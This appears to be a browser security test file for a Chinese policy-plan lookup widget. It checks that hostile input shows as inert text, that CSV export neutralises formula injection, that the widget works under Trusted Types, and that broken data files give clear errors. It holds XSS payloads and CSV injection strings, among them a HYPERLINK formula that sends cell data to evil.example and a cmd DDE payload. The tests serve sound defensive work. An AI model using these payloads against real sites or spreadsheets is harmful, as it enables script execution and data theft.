// Portal security and error handling of the widget and the offline page:
// - plan text, plan titles, unit names, document names and questions (typed or from ?q=) carry
//   HTML/script payloads and must show as literal text with nothing executed; documents arrive
//   at run time (widget.addDocument) and through a data file built by `plan-lookup build`;
// - CSV export defuses formula injection;
// - the widget and the page work where Trusted Types are enforced;
// - truncated, corrupted, stale, wrong-kind and missing data files (and a missing wasm) show a
//   readable message and a retry that works once the file is fixed.
//
// The XSS tests run with CSP bypassed: the strict CSP would block inline handlers anyway, and
// the widget must be inert on portals that send no CSP at all.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { ROOT, launch, watchProblems, widgetReady, typeQuestion, copyOfWww, cleanup, requireBuild } from './helpers.mjs';
import { startServer, CSP } from '../../scripts/serve.mjs';

const FIXTURES = path.join(ROOT, 'tests/browser/fixtures');
const HOSTILE_NAME = 'hostile-plan.txt';
const HOSTILE = fs.readFileSync(path.join(FIXTURES, HOSTILE_NAME), 'utf8');
/** An HTML document named with a payload: its plan title is the name; its text holds
 * entity-encoded markup (decoded to literal text) and a real script (dropped by the decoder). */
const HOSTILE_HTML_NAME = `"><img src=x onerror=window.__xss.push('doc-name')>.html`;
const HOSTILE_HTML =
  '<html><body><p>1.审查&lt;img src=x onerror=window.__xss.push(&quot;entity&quot;)&gt;与&lt;script&gt;window.__xss.push(1)&lt;/script&gt;。' +
  '（牵头单位：测试县司法局）</p><script>window.__xss.push("html-script")</script><p>测试县人民政府</p></body></html>';

/** Questions that are themselves payloads. */
const HOSTILE_QUESTIONS = [
  `<img src=x onerror=window.__xss.push('q-img')>`,
  `"><svg onload=window.__xss.push('q-svg')>`,
  `<script>window.__xss.push('q-script')</script>区司法局牵头哪些任务`,
  `</style><style>*{display:none !important}</style>营商环境`,
  `javascript:window.__xss.push('q-js')`,
  `' onfocus='window.__xss.push("q-attr")' autofocus='`,
];

/** Trusted Types on top of the strict CSP; only the offline page's service-worker policy may exist. */
const TT_CSP = `${CSP}; require-trusted-types-for 'script'; trusted-types plan-lookup-sw`;

let browser, dir, server, ttServer, goodData;
before(async () => {
  requireBuild();
  dir = copyOfWww();
  fs.copyFileSync(path.join(FIXTURES, 'trusted-types.html'), path.join(dir, 'trusted-types.html'));
  // The hostile document as a data file, written by the CLI the way a portal builds its own.
  execFileSync('cargo', ['run', '--release', '--quiet', '--bin', 'plan-lookup', '--', 'build', '-o', path.join(dir, 'data/hostile.bin'), path.join(FIXTURES, HOSTILE_NAME)], {
    cwd: ROOT,
    stdio: ['ignore', 'ignore', 'inherit'],
  });
  goodData = fs.readFileSync(path.join(dir, 'data/plans.bin'));
  server = await startServer({ root: dir });
  ttServer = await startServer({ root: dir, csp: TT_CSP });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
  await ttServer?.close();
  if (dir) cleanup(dir);
});

/** A page where any executed payload leaves a trace: window.__xss entries, a dialog, a page error. */
async function openInert(url, options = {}) {
  const context = await browser.newContext({ bypassCSP: true, serviceWorkers: 'block', ...options });
  await context.addInitScript(() => {
    window.__xss = [];
  });
  const page = await context.newPage();
  const problems = watchProblems(page);
  page.on('dialog', (d) => {
    problems.push(`dialog: ${d.type()} ${d.message()}`);
    d.dismiss().catch(() => {});
  });
  await page.goto(url);
  assert.equal(await widgetReady(page), 'ready');
  return { context, page, problems };
}

/** Everything that would show an injection: executed payloads, and markup the widget never makes
 * (script, img, iframe, style, links, event-handler or javascript: attributes) in its shadow
 * root or in the page. Returns a list of findings (empty when inert). */
async function injectionFindings(page) {
  return page.evaluate(() => {
    const found = [];
    if (window.__xss.length) found.push(`executed: ${window.__xss.join(', ')}`);
    const scan = (root, where) => {
      for (const node of root.querySelectorAll('*')) {
        const tag = node.localName;
        if (['script', 'img', 'iframe', 'object', 'embed', 'link', 'a', 'foreignobject', 'base', 'meta'].includes(tag) && where === 'shadow') found.push(`${where}: <${tag}>`);
        for (const attr of node.attributes) {
          if (/^on/i.test(attr.name)) found.push(`${where}: <${tag} ${attr.name}>`);
          if (/^\s*javascript:/i.test(attr.value)) found.push(`${where}: <${tag} ${attr.name}="${attr.value}">`);
        }
      }
    };
    const w = document.querySelector('plan-lookup');
    scan(w.shadowRoot, 'shadow');
    scan(document, 'page');
    // The page's own elements only: nothing was added outside the widget.
    const extra = [...document.querySelectorAll('img, iframe, svg, style')].filter((n) => !n.closest('plan-lookup'));
    if (extra.length) found.push(`page: ${extra.map((n) => n.localName).join(', ')}`);
    // CSS injection would hide the widget's insides.
    const root = w.shadowRoot.querySelector('.root');
    if (getComputedStyle(root).display === 'none' || getComputedStyle(w.shadowRoot.querySelector('form')).display !== 'flex') found.push('widget hidden by injected CSS');
    return found;
  });
}

/** The rendered answer shows every result's title, text, plan and units exactly as the engine
 * gave them (as text), and the widget's status/message contain no element children. */
async function assertLiteral(page) {
  const { want, got } = await page.evaluate(() => {
    const w = document.querySelector('plan-lookup');
    const arts = [...w.shadowRoot.querySelectorAll('article')];
    const title = (h) => {
      const copy = h.cloneNode(true);
      copy.querySelector('.num-badge')?.remove();
      return copy.textContent;
    };
    return {
      want: w.answer.results.map((r) => ({ title: r.title, text: r.text, plan: r.plan, units: [...r.lead, ...r.support, ...r.responsible] })),
      got: arts.map((a) => ({
        title: title(a.querySelector('h5')),
        text: a.querySelector('.text').textContent,
        where: a.querySelector('.where').textContent,
        units: [...a.querySelectorAll('dl.units dd')].map((d) => d.textContent).join('、'),
      })),
    };
  });
  const key = (x) => `${x.title}\u0000${x.text}`;
  assert.deepEqual(got.map(key).sort(), want.map(key).sort());
  for (const r of want) {
    const g = got.find((g) => key(g) === key(r) && g.where.startsWith(r.plan) && r.units.every((u) => g.units.includes(u)));
    assert.ok(g, `an article shows ${r.title} with its plan ${r.plan} and units ${r.units.join('、')}`);
  }
}

async function ask(page, q) {
  await typeQuestion(page, q);
  await page.waitForFunction((q) => document.querySelector('plan-lookup').answer?.question === q.trim(), q);
  return page.evaluate(() => document.querySelector('plan-lookup').answer);
}

/** Questions that put every hostile field on screen: results, summary table and chart, suggestions. */
async function exerciseHostileAnswers(page) {
  const seen = new Set();
  for (const q of ['谁牵头专项检查', '区司法局牵头哪些任务', '注入', '审查', '测试区哪些单位牵头', '测试县司法局牵头哪些任务']) {
    const a = await ask(page, q);
    for (const r of a.results) seen.add(r.text);
    assert.deepEqual(await injectionFindings(page), [], q);
    await assertLiteral(page);
  }
  // The payload unit names reach the summary table, the chart and the suggestion buttons as text.
  await ask(page, '谁牵头专项检查');
  const w = page.locator('plan-lookup');
  assert.ok((await w.locator('.summary tbody th').allTextContents()).includes(`<script>window.__xss.push('unit-script')</script>`));
  assert.match(await w.locator('.summary svg title').textContent(), /<script>window\.__xss/);
  await ask(page, '测试区哪些单位牵头');
  const suggestions = await w.locator('.suggest button').allTextContents();
  assert.ok(suggestions.some((s) => s.includes(`<imgsrc=xonerror=window.__xss.push('unit-img')>`)), suggestions.join(' / '));
  // Unit suggestions while typing show the payload unit names as text.
  const input = w.locator('input[type="search"]');
  await input.fill('');
  await input.pressSequentially('测试区区网信');
  await w.locator('[role="listbox"]').waitFor({ state: 'visible' });
  const options = await w.locator('[role="option"]').allTextContents();
  assert.ok(options.some((o) => o.includes('<imgsrc=x')), options.join(' / '));
  assert.deepEqual(await injectionFindings(page), [], 'suggestions');
  await input.press('Escape');
  return seen;
}

test('documents added at run time: payloads in plan titles, names, text and unit names show literally and never run', { timeout: 180000 }, async () => {
  const { context, page, problems } = await openInert(server.url);
  const docs = await page.evaluate(
    async ([a, b]) => {
      const w = document.querySelector('plan-lookup');
      return [await w.addDocument(a[0], a[1]), await w.addDocument(b[0], b[1])];
    },
    [
      [HOSTILE_NAME, HOSTILE],
      [HOSTILE_HTML_NAME, HOSTILE_HTML],
    ],
  );
  assert.equal(docs[0].measures, 5);
  assert.equal(docs[1].measures, 1);
  // The footer now counts the added documents and places, as text.
  assert.match(await page.locator('plan-lookup footer').textContent(), /7 份文件.*测试区、测试县/);
  const seen = await exerciseHostileAnswers(page);
  for (const payload of [`<img src=x onerror="window.__xss.push('text-img');alert(1)">`, `<iframe srcdoc=`, `</style><style>*{display:none !important}</style>`, `<img src=x onerror=window.__xss.push("entity")>`]) {
    assert.ok([...seen].some((t) => t.includes(payload)), `an answer showed ${payload}`);
  }
  // The plan titles with payloads are shown in the measure's place line.
  await ask(page, '测试县司法局牵头哪些任务');
  assert.ok((await page.locator('plan-lookup article .where').first().textContent()).startsWith(`"><img src=x onerror=window.__xss.push('doc-name')>`));
  await ask(page, '区司法局牵头哪些任务');
  const wheres = await page.locator('plan-lookup article .where').allTextContents();
  assert.ok(wheres.some((w) => w.startsWith(`测试区<img src=x onerror="window.__xss.push('title-img')">法治政府建设实施方案`)), wheres.slice(0, 3).join(' / '));
  // A document that is not a plan is refused with a message, through the widget too.
  const refused = await page.evaluate(async () => {
    try {
      await document.querySelector('plan-lookup').addDocument('x.txt', '<script>window.__xss.push("refused")</script>');
      return 'accepted';
    } catch (e) {
      return `${e.name} ${e.code}: ${e.message}`;
    }
  });
  assert.match(refused, /^PlanLookupError input: /);
  assert.deepEqual(await injectionFindings(page), []);
  assert.deepEqual(problems, []);
  await context.close();
});

test('questions with payloads, typed or from ?q=, are kept and shown as text', { timeout: 180000 }, async () => {
  const { context, page, problems } = await openInert(server.url);
  const w = page.locator('plan-lookup');
  for (const q of HOSTILE_QUESTIONS) {
    const a = await ask(page, q);
    assert.equal(await w.locator('input[type="search"]').inputValue(), q);
    assert.equal(new URL(page.url()).searchParams.get('q'), q.trim());
    // What the widget says about the question is the engine's text, as text.
    const said = await page.evaluate(() => {
      const r = document.querySelector('plan-lookup').shadowRoot;
      return { status: r.querySelector('.status').textContent, message: r.querySelector('.message').textContent, markup: r.querySelector('.status').children.length };
    });
    assert.equal(said.markup, 0);
    if (a.message) assert.ok(said.message.includes(a.message), `${said.message} includes ${a.message}`);
    assert.deepEqual(await injectionFindings(page), [], q);
    await assertLiteral(page);
  }
  await context.close();
  assert.deepEqual(problems, []);

  for (const q of HOSTILE_QUESTIONS) {
    const { context: c, page: p, problems: pr } = await openInert(server.url + '?q=' + encodeURIComponent(q));
    await p.waitForFunction((q) => document.querySelector('plan-lookup').answer?.question === q.trim(), q);
    assert.equal(await p.locator('plan-lookup input[type="search"]').inputValue(), q);
    assert.deepEqual(await injectionFindings(p), [], q);
    await assertLiteral(p);
    // Back and forward re-read the question from the URL, still as text.
    await typeQuestion(p, '普法');
    await p.goBack();
    await p.waitForFunction((q) => document.querySelector('plan-lookup').answer?.question === q.trim(), q);
    assert.deepEqual(await injectionFindings(p), [], `${q} after going back`);
    assert.deepEqual(pr, []);
    await c.close();
  }
});

test('a data file built by plan-lookup build from a hostile document renders inert', { timeout: 180000 }, async () => {
  const { context, page, problems } = await openInert(server.url + 'embed-example.html');
  await page.evaluate(() => document.querySelector('plan-lookup').setAttribute('src', 'data/hostile.bin'));
  await page.waitForFunction(() => document.querySelector('plan-lookup').lookup?.info().measures === 5);
  assert.match(await page.locator('plan-lookup footer').textContent(), /1 份文件 · 5 条任务 · 测试区/);
  const seen = await exerciseHostileAnswers(page);
  assert.ok([...seen].some((t) => t.includes(`"><svg onload="window.__xss.push('text-svg')">`)));
  assert.deepEqual(problems, []);
  await context.close();
});

/** RFC 4180 parser: records of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') cell += text[i++];
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      i += 2;
      rows.push(row);
      row = [];
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/u;

test('CSV export defuses formula injection (= + - @ tab CR LF) and quotes every cell', { timeout: 180000 }, async () => {
  const { context, page, problems } = await openInert(server.url + '?q=' + encodeURIComponent('注入'), { acceptDownloads: true });
  await page.evaluate(() => document.querySelector('plan-lookup').setAttribute('src', 'data/hostile.bin'));
  await page.waitForFunction(() => document.querySelector('plan-lookup').answer?.results.length > 0 && document.querySelector('plan-lookup').lookup.info().measures === 5);
  for (const q of ['注入', '开头的任务文本', '专项检查']) {
    const answer = await ask(page, q);
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('plan-lookup button.csv').click()]);
    const bytes = fs.readFileSync(await download.path());
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const raw = bytes.toString('utf8').slice(1);
    // Every cell is quoted: each record starts with a quote, and no cell is bare.
    const rows = parseCsv(raw);
    assert.equal(rows.length, answer.results.length + 1);
    for (const row of rows) {
      assert.equal(row.length, 13);
      for (const cell of row) assert.doesNotMatch(cell, FORMULA, `cell ${JSON.stringify(cell)}`);
    }
    // The defused cells keep their text after the apostrophe.
    for (const [k, r] of answer.results.entries()) {
      const row = rows[k + 1];
      assert.equal(row[7], FORMULA.test(r.title) ? `'${r.title}` : r.title);
      assert.equal(row[8], FORMULA.test(r.text) ? `'${r.text}` : r.text);
      assert.equal(row[9], FORMULA.test(r.lead.join('、')) ? `'${r.lead.join('、')}` : r.lead.join('、'));
    }
    if (q === '注入') {
      const formulaRow = rows.find((row) => row[8].includes('HYPERLINK'));
      assert.ok(formulaRow[8].startsWith(`'=HYPERLINK("http://evil.example/`));
      assert.equal(formulaRow[9], `'=cmd|'/Ccalc'!A0`);
      assert.ok(raw.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点此查看"")`), 'quotes are doubled inside the cell');
    }
  }
  // Every column, with each dangerous first character (including those no plan text can start with).
  const cells = await page.evaluate(async () => {
    const { answerToCsv } = await import('/plan-lookup-widget.js');
    const starts = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', 'a "quoted", line\r\nbreak'];
    const results = starts.map((s, i) => ({
      jurisdiction: s, role: s, unit: s, plan: s, path: [s], number: s, seq: i, title: s, text: s, lead: [s], support: [s], responsible: [s], via: s,
    }));
    return { starts, csv: answerToCsv({ results }) };
  });
  const rows = parseCsv(cells.csv.slice(1));
  assert.equal(rows.length, cells.starts.length + 1);
  cells.starts.forEach((s, i) => {
    const row = rows[i + 1];
    for (const [col, cell] of row.entries()) {
      if (col === 6) continue; // the sequence number
      assert.equal(cell, FORMULA.test(s) ? `'${s}` : s, `row ${i} col ${col}`);
    }
  });
  assert.deepEqual(await injectionFindings(page), []);
  assert.deepEqual(problems, []);
  await context.close();
});

/** Records CSP and Trusted Types violations from before the first script runs. */
async function violationWatch(context) {
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample || ''}`));
  });
}

/** widgetReady, failing with the page's errors instead of waiting forever when a blocked sink
 * kept the widget from starting at all. */
function readyWithin(page, problems, ms = 30000) {
  let timer;
  const late = new Promise((_, reject) => {
    timer = setTimeout(() => reject(new Error(`the widget did not start within ${ms} ms: ${problems.join(' | ') || 'no page errors'}`)), ms);
  });
  return Promise.race([widgetReady(page), late]).finally(() => clearTimeout(timer));
}

/** Proves Trusted Types are enforced on the page: an HTML string into innerHTML throws. */
async function assertTrustedTypesEnforced(page) {
  const r = await page.evaluate(() => {
    const box = document.createElement('div');
    try {
      box.innerHTML = '<b>x</b>';
      return 'assigned';
    } catch (e) {
      return e.name;
    }
  });
  assert.equal(r, 'TypeError');
  await page.waitForFunction(() => window.__violations.some((v) => v.startsWith('require-trusted-types-for')));
  await page.evaluate(() => (window.__violations = []));
}

test('Trusted Types: the widget works on a portal that allows no policy at all', { timeout: 180000 }, async () => {
  const context = await browser.newContext({ serviceWorkers: 'block', acceptDownloads: true });
  await violationWatch(context);
  const page = await context.newPage();
  const problems = watchProblems(page);
  const response = await page.goto(ttServer.url + 'trusted-types.html?q=' + encodeURIComponent(HOSTILE_QUESTIONS[0]));
  assert.equal(response.headers()['content-security-policy'], TT_CSP);
  assert.equal(await readyWithin(page, problems), 'ready');
  await page.waitForFunction(() => document.querySelector('plan-lookup').answer);
  const w = page.locator('plan-lookup');
  // Typed questions, a topic answer with its summary table and chart, highlights, suggestions.
  await typeQuestion(page, '行政复议由谁牵头');
  await w.locator('.summary svg rect').first().waitFor();
  await typeQuestion(page, '营商环境');
  await w.locator('mark').first().waitFor();
  await w.locator('input[type="search"]').fill('');
  await w.locator('input[type="search"]').pressSequentially('司法');
  await w.locator('[role="listbox"]').waitFor({ state: 'visible' });
  await w.locator('input[type="search"]').press('ArrowDown');
  await w.locator('input[type="search"]').press('Enter');
  await page.waitForFunction(() => document.querySelector('plan-lookup').answer?.intent === 'unit');
  await w.locator('button.elder-toggle').click();
  // A document added at run time, and CSV export (a blob URL download).
  await page.evaluate(([n, t]) => document.querySelector('plan-lookup').addDocument(n, t), [HOSTILE_NAME, HOSTILE]);
  await typeQuestion(page, '谁牵头专项检查');
  await w.locator('.summary svg').waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), w.locator('button.csv').click()]);
  assert.ok(fs.readFileSync(await download.path()).length > 100);
  // The error state and its retry.
  await page.evaluate(() => document.querySelector('plan-lookup').setAttribute('src', 'data/missing.bin'));
  await w.locator('[role="alert"] button.retry').waitFor({ state: 'visible' });
  await page.evaluate(() => document.querySelector('plan-lookup').setAttribute('src', 'data/plans.bin'));
  assert.equal(await widgetReady(page), 'ready');
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  assert.deepEqual(problems.filter((p) => !/Failed to load resource.*404/.test(p)), []);
  await assertTrustedTypesEnforced(page);
  await context.close();
});

test('Trusted Types: the offline page registers its service worker through its one policy', { timeout: 180000 }, async () => {
  for (const url of [ttServer.url, server.url]) {
    // ttServer sends Trusted Types in the header as well; server relies on the page's own meta CSP.
    const context = await browser.newContext();
    await violationWatch(context);
    const page = await context.newPage();
    const problems = watchProblems(page);
    await page.goto(url);
    assert.equal(await readyWithin(page, problems), 'ready');
    await page.waitForFunction(() => document.documentElement.dataset.offlineReady === 'yes' && navigator.serviceWorker.controller);
    await typeQuestion(page, '区司法局牵头哪些任务');
    await page.locator('plan-lookup article').first().waitFor();
    assert.deepEqual(await page.evaluate(() => window.__violations), []);
    assert.deepEqual(problems, []);
    await assertTrustedTypesEnforced(page);
    // The policy admits only the page's own worker script.
    const other = await page.evaluate(async () => {
      try {
        await navigator.serviceWorker.register('/pkg/plan_lookup.js');
        return 'registered';
      } catch (e) {
        return e.name;
      }
    });
    assert.equal(other, 'TypeError');
    await context.close();
  }
});

// --- broken data files -----------------------------------------------------------------------

const HTML_404 = '<!DOCTYPE html><html><head><title>404 Not Found</title></head><body><h1>404 Not Found</h1><p>The page you requested does not exist.</p></body></html>\n';

/** Bad data files as servers and interrupted copies produce them: [name, bytes, reader's words, technical words]. */
function brokenFiles() {
  const corrupt = Buffer.from(goodData);
  corrupt[corrupt.length - 7] ^= 0x5a;
  const stale = Buffer.from(goodData);
  stale.writeUInt16LE(99, 4);
  return [
    ['truncated', goodData.subarray(0, Math.floor(goodData.length / 2)), /数据文件不完整/, /truncated/],
    ['corrupted', corrupt, /数据文件已损坏/, /corrupted/],
    ['wrong version', stale, /版本与本查询程序不符/, /format version 99/],
    ['an HTML error page served as the data file', Buffer.from(HTML_404), /不是任务数据文件/, /not a plan-lookup data file/],
    ['empty', Buffer.alloc(0), /不是任务数据文件/, /not a plan-lookup data file/],
    ['missing (HTTP 404)', null, /数据文件下载失败/, /HTTP 404/],
  ];
}

/** Waits for the error box and checks it is readable and offers a working retry. */
async function assertErrorShown(page, reader, technical) {
  const w = page.locator('plan-lookup');
  const alert = w.locator('[role="alert"]');
  await alert.waitFor({ state: 'visible' });
  await page.waitForFunction(() => !document.querySelector('plan-lookup').shadowRoot.querySelector('button.retry').disabled);
  const lead = await alert.locator('.lead').textContent();
  assert.match(lead, /^无法加载任务数据：/);
  assert.match(lead, reader);
  assert.match(await alert.locator('.detail').textContent(), technical);
  assert.match(await w.locator('[role="status"]').textContent(), /加载失败/);
  const retry = alert.locator('button.retry');
  assert.ok(await retry.isVisible());
  assert.equal(await retry.textContent(), '重试');
  // Not a blank box: the message takes real space on screen.
  assert.ok((await alert.boundingBox()).height > 40);
  assert.equal(await w.locator('article').count(), 0);
  return retry;
}

test('broken data files on the offline page: a readable message, and retry works once the file is fixed', { timeout: 180000 }, async () => {
  const file = path.join(dir, 'data/plans.bin');
  // The page's bundle gone too (else it answers from it): the page loads the data file instead.
  const bundle = path.join(dir, 'data/plans.wasm');
  const bundleBytes = fs.readFileSync(bundle);
  const bundleGz = fs.existsSync(`${bundle}.gz`) ? fs.readFileSync(`${bundle}.gz`) : null;
  fs.rmSync(bundle);
  fs.rmSync(`${bundle}.gz`, { force: true });
  try {
    for (const [what, bytes, reader, technical] of brokenFiles()) {
      if (bytes) fs.writeFileSync(file, bytes);
      else fs.rmSync(file);
      const context = await browser.newContext();
      const page = await context.newPage();
      const problems = watchProblems(page);
      await page.goto(server.url + '?q=' + encodeURIComponent('普法'));
      assert.equal(await widgetReady(page), 'error', what);
      const retry = await assertErrorShown(page, reader, technical);
      assert.equal(await page.locator('#data-version').textContent(), '未能加载');
      // A retry with the file still broken fails the same way, and says so again.
      await retry.click();
      await assertErrorShown(page, reader, technical);
      fs.writeFileSync(file, goodData);
      await page.locator('plan-lookup button.retry').focus();
      await page.keyboard.press('Enter');
      await page.waitForFunction(() => document.querySelector('plan-lookup').lookup);
      const w = page.locator('plan-lookup');
      assert.ok(await w.locator('[role="alert"]').isHidden(), what);
      // Focus moved on to the search box; the question from the link is answered.
      assert.equal(await page.evaluate(() => document.querySelector('plan-lookup').shadowRoot.activeElement?.type), 'search');
      await page.waitForFunction(() => document.querySelector('plan-lookup').answer?.question === '普法');
      assert.ok((await w.locator('article').count()) > 0);
      assert.match(await page.locator('#data-version').textContent(), /^[0-9a-f]{8}（/);
      const expectedNoise = [/Failed to load resource.*404/]; // (the bundle, and a missing data file)
      assert.deepEqual(problems.filter((p) => !expectedNoise.some((re) => re.test(p))), [], what);
      await context.close();
    }
  } finally {
    fs.writeFileSync(file, goodData);
    fs.writeFileSync(bundle, bundleBytes);
    if (bundleGz) fs.writeFileSync(`${bundle}.gz`, bundleGz);
  }
});

test('a missing WebAssembly module and a dropped connection are explained, and retry recovers', { timeout: 180000 }, async () => {
  const wasm = path.join(dir, 'pkg/plan_lookup_query_bg.wasm');
  const wasmBytes = fs.readFileSync(wasm);
  try {
    fs.rmSync(wasm);
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    const problems = watchProblems(page);
    await page.goto(server.url + 'embed-example.html');
    assert.equal(await widgetReady(page), 'error');
    const retry = await assertErrorShown(page, /浏览器未能加载查询程序/, /WebAssembly module/);
    fs.writeFileSync(wasm, wasmBytes);
    await retry.click();
    await page.waitForFunction(() => document.querySelector('plan-lookup').lookup);
    await typeQuestion(page, '普法');
    await page.locator('plan-lookup article').first().waitFor();
    assert.deepEqual(problems.filter((p) => !/Failed to load resource.*404/.test(p)), []);

    // Offline with nothing cached: the reader is told to get online, then retry works.
    await context.setOffline(true);
    await page.evaluate(() => document.querySelector('plan-lookup').setAttribute('src', 'data/plans.bin?v=2'));
    await assertErrorShown(page, /当前处于离线状态/, /could not download/);
    await context.setOffline(false);
    await page.locator('plan-lookup button.retry').click();
    await page.waitForFunction(() => document.querySelector('plan-lookup').lookup);
    assert.deepEqual(problems.filter((p) => !/Failed to load resource/.test(p)), []);
    await context.close();
  } finally {
    fs.writeFileSync(wasm, wasmBytes);
  }
});
